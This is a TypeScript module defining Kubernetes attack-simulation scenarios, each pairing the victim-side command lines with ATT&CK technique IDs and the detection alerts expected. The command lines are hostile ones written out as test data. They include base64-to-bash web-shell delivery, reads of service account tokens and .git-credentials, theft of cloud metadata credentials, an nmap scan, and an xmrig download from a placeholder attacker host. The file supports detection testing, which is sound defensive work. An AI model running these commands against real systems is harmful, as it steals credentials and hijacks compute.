/** One process the scenario starts on the victim, in order. `when` says on which platform or condition it runs. */
export interface ScenarioStep {
  commandLine: string
  /** ATT&CK technique. */
  technique: string
  when?: string
}

export type ScenarioId =
  | 'reconnaissance'
  | 'lateral-movement'
  | 'secrets-gathering'
  | 'crypto-mining'
  | 'web-shell'
  | 'threat-intelligence-domain'
  | 'all'

export interface Scenario {
  id: ScenarioId
  title: string
  description: string
  /** Alerts the published simulation table promises. */
  expectedAlerts: string[]
  /** Alerts the simulation tool's own table added later. */
  laterAlerts: string[]
  techniques: string[]
  steps: ScenarioStep[]
}

const webShellAlert = 'Possible Web Shell activity detected'
const serviceAccountToken = '/var/run/secrets/kubernetes.io/serviceaccount/token'

/** How every scripted scenario begins on the victim. */
const delivery: ScenarioStep[] = [
  { commandLine: 'sh -c echo <base64>| base64 -d| bash', technique: 'T1505.003' },
  { commandLine: 'base64 -d', technique: 'T1140' },
  { commandLine: 'bash', technique: 'T1059.004' },
]

const reconnaissance: ScenarioStep[] = [
  { commandLine: `cat ${serviceAccountToken}`, technique: 'T1552.001' },
  {
    commandLine:
      'curl -s -k -A kubectl -H Authorization: Bearer <token> -H Content-Type: application/json -X POST -d <SelfSubjectAccessReview> https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
    technique: 'T1613',
  },
  { commandLine: 'grep -Po "allowed":\\s*\\K(true|false)', technique: 'T1613' },
  { commandLine: 'nmap -Pn --open kubernetes.default/24 -p 443', technique: 'T1046' },
]

const lateralMovement: ScenarioStep[] = [
  {
    commandLine:
      'curl -s -m 5 -H Metadata-Flavor: Google http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
    technique: 'T1552.005',
  },
  {
    commandLine:
      'curl -sf -m 5 -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600',
    technique: 'T1552.005',
    when: 'not on Google Cloud',
  },
  {
    commandLine:
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials -H X-aws-ec2-metadata-token: <token>',
    technique: 'T1552.005',
    when: 'on AWS',
  },
  {
    commandLine:
      'curl -sf -m 5 -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com',
    technique: 'T1552.005',
    when: 'elsewhere',
  },
]

const secretsGathering: ScenarioStep[] = [
  { commandLine: 'find / -path */.git-credentials', technique: 'T1083' },
  { commandLine: 'cat /home/user/.git-credentials', technique: 'T1552.001' },
  { commandLine: `cat ${serviceAccountToken}`, technique: 'T1552.001' },
  { commandLine: 'head -c 30', technique: 'T1552.001' },
  {
    commandLine: 'grep AZURE_CREDENTIAL_FILE=',
    technique: 'T1552',
    when: 'GOOGLE_DEFAULT_CLIENT_SECRET= or AWS_SECRET_ACCESS_KEY= on those clouds',
  },
]

const cryptoMining: ScenarioStep[] = [
  { commandLine: '/sbin/modprobe msr allow_writes=on', technique: 'T1496.001' },
  { commandLine: 'touch /etc/ld.so.preload', technique: 'T1574.006' },
  { commandLine: 'curl -sO http://<attacker>/xmrig', technique: 'T1105' },
  { commandLine: 'chmod +x xmrig', technique: 'T1222.002' },
  { commandLine: './xmrig', technique: 'T1496.001' },
]

const threatIntelligence: ScenarioStep[] = [
  {
    commandLine: 'curl -s -m 10 -X POST http://mdc-eicar.alerts.security.azure.com?SendingData -o /dev/null',
    technique: 'T1071.001',
  },
]

type Draft = Omit<Scenario, 'techniques'>

const single: Draft[] = [
  {
    id: 'reconnaissance',
    title: 'Reconnaissance',
    description:
      'Through a web shell, the pod asks the API server what it may do and scans the network for other API servers.',
    expectedAlerts: [
      webShellAlert,
      'Suspicious Kubernetes service account operation detected',
      'Network scanning tool detected',
    ],
    laterAlerts: ['Suspicious access to workload identity token or service account token detected'],
    steps: [...delivery, ...reconnaissance],
  },
  {
    id: 'lateral-movement',
    title: 'Lateral movement',
    description: "The pod asks the cloud's metadata service for the node's identity.",
    expectedAlerts: [webShellAlert, 'Access to cloud metadata service detected'],
    laterAlerts: [],
    steps: [...delivery, ...lateralMovement],
  },
  {
    id: 'secrets-gathering',
    title: 'Secrets gathering',
    description: 'The pod searches its files and variables for credentials.',
    expectedAlerts: [webShellAlert, 'Sensitive files access detected', 'Possible secret reconnaissance detected'],
    laterAlerts: [],
    steps: [...delivery, ...secretsGathering],
  },
  {
    id: 'crypto-mining',
    title: 'Crypto mining',
    description:
      "The pod prepares the processor for mining, tries to hide, downloads a harmless file with a miner's name and runs it.",
    expectedAlerts: [
      webShellAlert,
      'Kubernetes CPU optimization detected',
      'Command within a container accessed ld.so.preload',
      'Possible Crypto miners download detected',
      'A drift binary detected executing in the container',
    ],
    laterAlerts: ['Digital currency mining related behavior detected'],
    steps: [...delivery, ...cryptoMining],
  },
  {
    id: 'web-shell',
    title: 'Web shell',
    description: 'One command through a web shell.',
    expectedAlerts: [webShellAlert],
    laterAlerts: [],
    steps: [
      { commandLine: 'sh -c whoami', technique: 'T1505.003' },
      { commandLine: 'whoami', technique: 'T1033' },
    ],
  },
  {
    id: 'threat-intelligence-domain',
    title: 'Threat intelligence domain',
    description: 'The pod contacts a domain that threat intelligence lists for tests.',
    expectedAlerts: [],
    // Delivered through the web shell like the others, so that alert comes too; the tool's own table leaves it out here.
    laterAlerts: ['Communication with test domain identified by threat intelligence', webShellAlert],
    steps: [...delivery, ...threatIntelligence],
  },
]

const all: Draft = {
  id: 'all',
  title: 'All scenarios',
  description: 'Everything but the bare web shell command, in one script.',
  expectedAlerts: [...new Set(single.flatMap((scenario) => scenario.expectedAlerts))],
  laterAlerts: [...new Set(single.flatMap((scenario) => scenario.laterAlerts))].filter((a) => a !== webShellAlert),
  steps: [
    ...delivery,
    ...reconnaissance,
    ...lateralMovement,
    ...secretsGathering,
    ...cryptoMining,
    ...threatIntelligence,
  ],
}

/** What can be run, what it does, and the alerts it should raise. */
export const scenarios: readonly Scenario[] = [...single, all].map((draft) => ({
  ...draft,
  techniques: [...new Set(draft.steps.map((step) => step.technique))],
}))

export function findScenario(id: string): Scenario | undefined {
  return scenarios.find((scenario) => scenario.id === id)
}
